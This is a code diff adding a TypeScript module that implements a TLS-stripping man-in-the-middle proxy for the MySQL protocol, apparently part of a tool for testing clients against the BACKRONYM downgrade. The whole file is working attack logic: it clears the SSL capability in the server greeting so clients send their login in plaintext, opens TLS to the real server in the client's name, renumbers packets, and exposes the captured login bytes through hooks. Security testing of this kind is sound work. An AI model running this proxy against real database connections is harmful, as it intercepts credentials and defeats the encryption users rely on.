@@ -1,0 +1,212 @@
+import type { Socket } from "node:net";
+import type { TLSSocket } from "node:tls";
+import { CapabilityFlags, PacketMarker } from "../protocol/constants";
+import { encodePacket, type Packet, PacketFramer } from "../protocol/framing";
+import { encodeSslRequest, isBareSslRequest } from "../protocol/packets/ssl-request";
+import type { ResolvedProxyOptions } from "../options/proxy-options";
+import { connectUpstreamTls } from "./upstream-tls";
+
+/** What the relay is shown of a stripped connection, and told when the server side fails. */
+export interface StripHooks {
+  /** Bytes as the client sent them. */
+  fromClient(chunk: Buffer): void;
+  /** Bytes as the client received them: the stripped greeting, the login renumbered. */
+  toClient(chunk: Buffer): void;
+  /** The proxy's TLS to the real server failed; both sides are closed. */
+  upstreamTlsFailed(message: string): void;
+  /** The client asked for TLS although the greeting it saw offered none: relayed, TLS and all. */
+  clientAskedForTls(): void;
+}
+
+/** Offset of the capability word's low half in a HandshakeV10 payload, after the version's NUL. */
+function capabilityOffset(payload: Buffer): number {
+  const versionEnd = payload.indexOf(0, 1);
+  // protocol version, version + NUL, connection id (4), auth-plugin-data part 1 (8), filler (1)
+  return versionEnd + 1 + 4 + 8 + 1;
+}
+
+/**
+ * The greeting with CLIENT_SSL cleared, every other byte as the server sent it — what a
+ * TLS-stripping proxy does (BACKRONYM). Bit 30 (CLIENT_SSL_VERIFY_SERVER_CERT) is left alone:
+ * mysslstrip left it, and clients do not read it.
+ */
+export function stripGreeting(payload: Buffer): Buffer {
+  const stripped = Buffer.from(payload);
+  if (payload[0] === PacketMarker.ERR) return stripped;
+  const at = capabilityOffset(payload);
+  if (at + 2 > payload.length) return stripped;
+  stripped.writeUInt16LE(payload.readUInt16LE(at) & ~CapabilityFlags.CLIENT_SSL, at);
+  return stripped;
+}
+
+/**
+ * The `strip` attack on one connection: the client sees a greeting without CLIENT_SSL; when it
+ * answers in plaintext, the proxy sends the real server an SSLRequest in its name, completes TLS
+ * with it, and forwards the client's login inside that TLS, renumbering the login's packets (the
+ * server counts the SSLRequest the client never sent). After the server's OK or ERR every byte is
+ * copied as it comes: commands restart their numbering. A client that asks for TLS anyway is
+ * relayed untouched, as a stripping proxy that cannot read TLS does.
+ */
+export class StripLink {
+  private readonly fromServerFrames = new PacketFramer();
+  private readonly fromClientFrames = new PacketFramer();
+  private stage: "greeting" | "first-packet" | "upgrading" | "login" | "copying" = "greeting";
+  private upstreamTls: TLSSocket | null = null;
+  /** Client bytes that arrived while the proxy was setting up TLS with the server. */
+  private held: Buffer[] = [];
+
+  constructor(
+    private readonly client: Socket,
+    private readonly upstream: Socket,
+    private readonly options: ResolvedProxyOptions,
+    private readonly hooks: StripHooks,
+  ) {}
+
+  private readonly onUpstream = (chunk: Buffer) => this.onUpstreamData(chunk);
+
+  start(): void {
+    this.upstream.on("data", this.onUpstream);
+    this.client.on("data", (chunk: Buffer) => this.onClientData(chunk));
+    this.client.on("end", () => this.server.end());
+    this.upstream.on("end", () => {
+      if (!this.upstreamTls) this.client.end();
+    });
+  }
+
+  /** The server's side as the proxy reads it: the TLS socket once it is up. */
+  private get server(): Socket {
+    return this.upstreamTls ?? this.upstream;
+  }
+
+  private onUpstreamData(chunk: Buffer): void {
+    if (this.stage === "greeting") {
+      const [greeting] = this.fromServerFrames.push(chunk, { limit: 1 });
+      if (!greeting) return;
+      const bytes = encodePacket(stripGreeting(greeting.payload), greeting.sequenceId);
+      this.send(this.client, bytes);
+      this.hooks.toClient(bytes);
+      this.stage = "first-packet";
+      const rest = this.fromServerFrames.takeRemainder();
+      if (rest.length > 0) this.copyToClient(rest);
+      return;
+    }
+    this.copyToClient(chunk);
+  }
+
+  private onClientData(chunk: Buffer): void {
+    switch (this.stage) {
+      case "greeting":
+      case "first-packet": {
+        this.hooks.fromClient(chunk);
+        const [first] = this.fromClientFrames.push(chunk, { limit: 1 });
+        if (!first) return;
+        const rest = this.fromClientFrames.takeRemainder();
+        if (isBareSslRequest(first.payload)) {
+          this.stage = "copying";
+          this.hooks.clientAskedForTls();
+          this.send(this.upstream, Buffer.concat([encodePacket(first.payload, first.sequenceId), rest]));
+          return;
+        }
+        if (rest.length > 0) this.held.push(rest);
+        this.upgrade(first);
+        return;
+      }
+      case "upgrading":
+        this.hooks.fromClient(chunk);
+        this.held.push(chunk);
+        return;
+      case "login":
+        this.hooks.fromClient(chunk);
+        for (const packet of this.fromClientFrames.push(chunk)) {
+          this.send(this.server, encodePacket(packet.payload, (packet.sequenceId + 1) & 0xff));
+        }
+        return;
+      case "copying":
+        this.hooks.fromClient(chunk);
+        this.send(this.server, chunk);
+    }
+  }
+
+  /** Asks the server for TLS in the client's name and forwards its login inside it. */
+  private upgrade(response: Packet): void {
+    const payload = Buffer.from(response.payload);
+    if (this.options.upstreamTls === "off") {
+      this.stage = "copying";
+      this.send(this.upstream, Buffer.concat([encodePacket(payload, response.sequenceId), ...this.held]));
+      this.held = [];
+      return;
+    }
+    this.stage = "upgrading";
+    const caps = (payload.readUInt32LE(0) | CapabilityFlags.CLIENT_SSL) >>> 0;
+    payload.writeUInt32LE(caps, 0);
+    const sslRequest = encodeSslRequest({
+      form: "41",
+      capabilityFlags: caps,
+      maxPacketSize: payload.readUInt32LE(4),
+      characterSet: payload[8]!,
+      reserved: payload.subarray(9, 32),
+      trailing: Buffer.alloc(0),
+    });
+    this.send(this.upstream, encodePacket(sslRequest, response.sequenceId));
+    // From here the socket's bytes are TLS records: the TLS socket reads them, nobody else.
+    this.upstream.removeListener("data", this.onUpstream);
+    const tls = connectUpstreamTls(this.upstream, this.options);
+    this.upstreamTls = tls;
+    tls.once("secureConnect", () => {
+      this.stage = "login";
+      tls.on("data", (chunk: Buffer) => this.onServerLogin(chunk));
+      this.send(tls, encodePacket(payload, (response.sequenceId + 1) & 0xff));
+      const held = Buffer.concat(this.held);
+      this.held = [];
+      for (const packet of this.fromClientFrames.push(held)) {
+        this.send(tls, encodePacket(packet.payload, (packet.sequenceId + 1) & 0xff));
+      }
+    });
+    tls.once("error", (error) => {
+      if (this.stage === "upgrading") this.hooks.upstreamTlsFailed(error.message);
+      this.client.destroy();
+      this.upstream.destroy();
+    });
+    tls.on("end", () => this.client.end());
+  }
+
+  /** The server's side of the login, inside the proxy's TLS: renumbered for the client until OK or ERR. */
+  private onServerLogin(chunk: Buffer): void {
+    if (this.stage === "copying") {
+      this.copyToClient(chunk);
+      return;
+    }
+    for (const packet of this.fromServerFrames.push(chunk)) {
+      const bytes = encodePacket(packet.payload, (packet.sequenceId - 1) & 0xff);
+      this.copyToClient(bytes);
+      const marker = packet.payload[0];
+      if (marker === PacketMarker.OK || marker === PacketMarker.ERR) {
+        this.stage = "copying";
+        const rest = this.fromServerFrames.takeRemainder();
+        if (rest.length > 0) this.copyToClient(rest);
+        // What the client sent past its login goes on unframed.
+        const pending = this.fromClientFrames.takeRemainder();
+        if (pending.length > 0) this.send(this.server, pending);
+        return;
+      }
+    }
+  }
+
+  private copyToClient(bytes: Buffer): void {
+    this.hooks.toClient(bytes);
+    this.send(this.client, bytes, this.server);
+  }
+
+  /** Writes `bytes` to `to`; a slow reader pauses `from`, so nothing piles up in the proxy. */
+  private send(
+    to: Socket,
+    bytes: Buffer,
+    from: Socket = to === this.client ? this.server : this.client,
+  ): void {
+    if (bytes.length === 0 || to.destroyed) return;
+    if (!to.write(bytes)) {
+      from.pause();
+      to.once("drain", () => from.resume());
+    }
+  }
+}
